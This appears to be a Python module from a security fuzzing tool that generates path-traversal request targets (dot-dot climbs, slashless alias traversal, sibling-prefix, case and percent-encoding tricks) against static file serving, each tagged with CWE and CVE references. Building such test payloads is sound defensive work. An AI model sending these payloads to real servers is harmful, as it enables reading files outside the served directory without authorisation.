"""Request targets that go wrong where the prefix of a URL meets the folder that is served."""

from collections.abc import Iterator

from capfuzz.attacks.techniques.registry import Kind, techniques_for

request = techniques_for(Kind.REQUEST, "http")
_REFS = ("https://cwe.mitre.org/data/definitions/22.html",)


@request(
    "request-climb",
    group="request-traversal",
    cwe="CWE-22",
    needs="opens what a URL says below the folder, without a look at ..",
    refs=("CVE-2024-23334", "CVE-2021-41773"),
)
def request_climb() -> Iterator[str]:
    """Climb out of the folder behind the prefix, in plain sight, as no browser would send it."""
    yield "{prefix}/../other/secret.txt"
    yield "{prefix}/sub/../../other/secret.txt"
    yield "{prefix}/./../other/secret.txt"


@request(
    "request-alias-climb",
    group="request-alias",
    cwe="CWE-22",
    needs="maps a prefix without a slash at its end to a folder with one",
    refs=_REFS,
)
def request_alias_climb() -> Iterator[str]:
    """Let ``..`` follow the prefix without a slash, where it is no segment of its own yet."""
    yield "{prefix}../other/secret.txt"
    yield "{prefix}../{name}-evil/secret.txt"
    yield "{prefix}..//other/secret.txt"
    yield "{prefix}./../other/secret.txt"
    yield "{prefix}%2e%2e/other/secret.txt"
    yield "{prefix}..%2fother%2fsecret.txt"


@request(
    "request-alias-sibling",
    group="request-alias",
    cwe="CWE-187",
    needs="compares the beginning of the URL, and puts the folder's name in its place",
    refs=("CVE-2023-29159",),
)
def request_alias_sibling() -> Iterator[str]:
    """Continue the prefix with the rest of a sibling's name, so that the folder's name is cut."""
    for rest in (
        "shop/secret.txt",
        "-evil/secret.txt",
        ".bak/secret.txt",
        "2/secret.txt",
        "_secret",
    ):
        yield f"{{prefix}}{rest}"


@request(
    "request-prefix-case",
    group="request-case",
    cwe="CWE-178",
    needs="matches the rule for a prefix in any case, and opens the path as it is spelt",
    refs=("CVE-2024-6866",),
)
def request_prefix_case() -> Iterator[str]:
    """Write the prefix in capitals, beside which a folder of that name stands."""
    yield "{PREFIX}/secret.txt"
    yield "{PREFIX}/x/secret.txt"


@request(
    "request-encoded-prefix",
    group="request-decoding",
    cwe="CWE-177",
    needs="routes by the text of the path, and decodes what follows the prefix after the check",
    refs=("CVE-2014-3744",),
)
def request_encoded_prefix() -> Iterator[str]:
    """Encode the slash behind the prefix, or the dots next to it."""
    yield "{prefix}%2f..%2fother%2fsecret.txt"
    yield "{prefix}%2f%2e%2e%2fother%2fsecret.txt"
    yield "{prefix}/%2e%2e/other/secret.txt"
    yield "{prefix}/.%2e/other/secret.txt"
    yield "{prefix}/%2e./other/secret.txt"
    yield "{prefix}/..%2fother/secret.txt"
